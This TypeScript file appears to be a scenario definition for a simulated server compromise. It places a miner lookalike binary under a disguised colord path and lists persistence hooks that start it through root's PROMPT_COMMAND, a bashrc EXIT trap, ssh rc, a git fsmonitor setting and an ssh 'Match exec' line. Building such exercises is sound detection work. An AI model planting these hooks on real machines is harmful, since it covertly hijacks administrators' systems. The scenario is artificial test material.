import { type Infection, miner, minerWords } from '../host-part.ts'

const program = '/var/lib/colord/icc-sync'

/** Whatever an administrator does starts it: a prompt, a tool of git, an entry of ssh. */
export const loginTraps: Infection = {
  family: 'login-traps',
  known: false,
  title: 'Traps in the files of the administrator',
  story: ['The prompt of the shell, the configuration of git and the file that sshd runs at each login start it.'],
  items: [
    { kind: 'file', path: program, content: { lookalike: miner, words: `${minerWords}\ntraps` }, mode: 0o755 },
    { kind: 'line', path: '/root/.bashrc', text: `PROMPT_COMMAND='${program} -B 2>/dev/null'` },
    { kind: 'line', path: '/home/anna/.bashrc', text: `trap '${program} -B' EXIT`, owner: 'anna' },
    { kind: 'line', path: '/root/.ssh/rc', text: `${program} -B >/dev/null 2>&1 &`, mode: 0o700 },
    { kind: 'line', path: '/root/.gitconfig', text: `\tfsmonitor = ${program}` },
    { kind: 'line', path: '/root/.ssh/config', text: `Match exec "${program} -B"` },
  ],
}
